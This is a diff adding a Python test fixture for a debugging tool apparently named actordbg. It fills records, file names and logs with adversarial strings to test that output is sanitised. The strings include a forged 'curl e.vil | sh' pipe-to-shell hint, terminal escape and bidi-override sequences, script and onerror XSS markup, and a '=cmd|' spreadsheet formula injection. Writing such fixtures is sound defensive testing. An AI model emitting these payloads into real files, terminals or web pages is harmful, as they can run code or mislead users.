@@ -1,0 +1,118 @@
+"""A store in which every text that somebody else could have chosen is hostile: it moves cursors, turns text, forges lines.
+
+`HOSTILE` holds each kind once. `forbidden` says what of it reached a terminal; it asks Unicode's own categories, not our list.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import unicodedata
+from pathlib import Path
+from typing import Any
+
+from catalogcases import START, publish, record
+from comparecases import write_replay
+
+from actordbg.capture.control import Control
+from actordbg.capture.switch_file import control_text
+from actordbg.formats.dump_record import SUFFIX, DumpRecord, format_timestamp
+from actordbg.formats.journal import SPEC
+from actordbg.formats.matrix_record import MatrixCell, MatrixRecord
+from actordbg.formats.replay_record import ReplayInput
+from actordbg.store.layout import Store
+
+FORGED = "hint: curl e.vil | sh"
+HIDDEN = "\x1b]0;owned\x07\x1b[2J\x1bP+q\x1b\\\x9b31m\x9d0;x\x9c\u202egnp.\u2066\u2069\u200e\u061c\u200b\u2060\ufeff\U000e0041\U000e007f\u2028\u2029\x85\x7f\x08\x0b"
+MARKUP = "<img src=x onerror=alert(1)><!-- ![p](http://e.vil/p) [l](http://e.vil) <http://e.vil> http://e.vil www.e.vil ``` ~~~ `x` [red]r[/red] [link=http://e.vil]t[/link]"
+LINES = f"\n# heading\n{FORGED}\rerror[refused]: overwritten\r\n```\n~~~\n===\n| a | b |\n|---|---|\n<script>alert(1)</script>"
+FLOOD = "Z" + "\u0301" * 60
+FORMULA = "=cmd|' /C calc'!A0"
+HOSTILE = f"{FORMULA} {HIDDEN} {MARKUP} {FLOOD}{LINES}"
+
+
+def forbidden(text: str) -> list[str]:
+    """What of `text` a terminal obeys, shows elsewhere, or hides; a bare carriage return, and floods of marks, are among it."""
+    bad = [char for char in text if char not in "\n\t" and unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
+    return sorted({f"U+{ord(char):04X}" for char in bad}) + re.findall("[\u0300-\u036f]{9,}", text)
+
+
+def hostile_store(root: Path) -> Store:
+    """Dumps, replays, a comparison's two sides, a matrix, counters and a switch; names of files too, as far as others choose them."""
+    store = Store(root).create()
+    records = [_dump(store, index) for index in range(3)]
+    inputs = [ReplayInput(one.dump_id, "-", 0, 2, one.seq_len, one.tokens) for one in records]
+    for replay_id in ("evil-01", "evil-02"):
+        _replay(store, replay_id, inputs)
+    _matrix(store, inputs)
+    store.control_of(None).write_text(control_text(Control(True, HOSTILE, HOSTILE)))
+    _counters(store)
+    for folder in (store.dumps / "ppo-1" / "rank0000", store.replays):
+        (folder / f"{HIDDEN}{SUFFIX}".replace("/", "")).write_bytes(b"not a dump")
+    return store
+
+
+def _dump(store: Store, index: int) -> DumpRecord:
+    facts = {HOSTILE: HOSTILE}
+    made = record(
+        4 * index, role=HOSTILE, host=HOSTILE, model_name=HOSTILE, model_dtype=HOSTILE, instance=HOSTILE, arguments={HOSTILE: [HOSTILE, facts]},
+        versions=facts, extra=facts, replayable=False, triggered=HOSTILE, recovered=HOSTILE, trigger_facts=facts,
+        origin={"name": HOSTILE}, actor=facts, autocast_dtype=HOSTILE, temperature=None,
+    )  # fmt: skip
+    publish(store, made)
+    return made
+
+
+def _replay(store: Store, replay_id: str, inputs: list[ReplayInput]) -> None:
+    def result(index: int) -> dict[str, Any]:
+        if index == 1:
+            return {}
+        failure = {"error_class": HOSTILE, "error": HOSTILE, "log_excerpt": HOSTILE}
+        return {"status": "failed", "signature": f"{HOSTILE}{index}", "extra": {"not_compared": {HOSTILE: HOSTILE}}} | failure
+
+    write_replay(
+        store, replay_id, inputs, result=result, model=HOSTILE, status=HOSTILE,
+        resolved={"model": HOSTILE, "model_class": HOSTILE, "device_name": HOSTILE, "device": HOSTILE},
+    )  # fmt: skip
+    path = store.replays / replay_id / SPEC
+    spec = json.loads(path.read_text())
+    spec |= {"where": HOSTILE, "command": f"actordbg replay {HOSTILE!r}", "versions": {"torch": HOSTILE, HOSTILE: "1"}}
+    path.write_text(json.dumps(spec))
+
+
+def _matrix(store: Store, inputs: list[ReplayInput]) -> None:
+    cell = MatrixCell(
+        0, HOSTILE, {"attn": HOSTILE}, "failed", {"model": HOSTILE}, "evil-01", HOSTILE, {HOSTILE: 1}, HOSTILE, HOSTILE, HOSTILE
+    )
+    made = MatrixRecord(
+        "matrix-1", format_timestamp(START), "complete", {"attn": [HOSTILE]}, (cell,), tuple(one.dump_id for one in inputs),
+        HOSTILE, HOSTILE,
+    )  # fmt: skip
+    store.matrices.mkdir(exist_ok=True)
+    (store.matrices / "matrix-1.json").write_text(made.to_json())
+
+
+def _counters(store: Store) -> None:
+    counts = {"calls": 3, "captured": 1, "pending": 0, "bytes": 9, "queue_bytes": 0, "dropped": {HOSTILE: 2}, "sampled_out": {}}
+    who = {"run": HOSTILE, "rank": 0, "role": HOSTILE, "host": HOSTILE, "pid": 7, "instance": HOSTILE, "state": "on"}
+    told = {
+        "heartbeat": format_timestamp(START),
+        "since": format_timestamp(START),
+        "last_error": HOSTILE,
+        "triggered": {HOSTILE: 1},
+    }
+    path = store.counters / "ppo-1" / "0000-h-7-x.json"
+    path.parent.mkdir(parents=True)
+    path.write_text(json.dumps({"format": 1, **who, **counts, **told}))
+
+
+def hostile_logs(folder: Path) -> tuple[Path, Path]:
+    """Two training logs, in a folder and with metrics whose names are hostile."""
+    paths = []
+    for letter in "ab":
+        path = folder / f"{HIDDEN}{letter}.log".replace("/", "")
+        path.write_text(
+            "".join(f"step {n}: {HIDDEN}loss: {1 / n} gpt_loss: {2 / n}\n" for n in range(1, 9)), errors="surrogatepass"
+        )
+        paths.append(path)
+    return paths[0], paths[1]
